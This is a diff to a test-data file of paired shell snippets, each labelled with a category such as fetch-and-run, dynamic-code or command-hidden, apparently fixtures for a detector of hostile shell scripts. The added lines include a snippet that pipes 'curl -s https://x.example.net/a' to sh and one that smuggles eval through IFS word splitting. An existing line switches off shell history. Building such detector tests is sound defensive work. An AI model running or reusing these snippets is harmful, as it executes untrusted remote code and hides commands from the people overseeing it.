@@ -106,6 +106,13 @@ export const SHELL_PAIRS: readonly Pair[] = [
     "dynamic-code",
   ],
   ["arguments that the script sets itself, and an option that sets none", `set -euo pipefail -- ls -l\n"$1"\n`, `set -uo pipefail\n"$1"\n`, "process-creation"],
+  [
+    "letters at which words end, set on one way",
+    `if [ -n "$1" ]; then IFS=,; fi\nmore=false\nif [ -n "$2" ]; then more=true; fi\nif $more; then ls; fi\n`,
+    `if [ -n "$1" ]; then IFS=; fi\nget="curl -s https://x.example.net/a"\n$get | sh\n`,
+    "fetch-and-run",
+  ],
+  ["a word of nothing between two separators", `IFS=,\nx="a,,ls"\nset -- $x\n"$3"\n`, `IFS=,\nx="a,,eval"\nset -- $x\n$3 "$4$UNSEEN"\n`, "dynamic-code"],
   ["options switched off, and the history among them", `set +e +o posix\nset -o vi\n`, `set +eo history\n`, "command-hidden"],
   [
     "a download for this kind of machine, and the name of the machine on its way out",
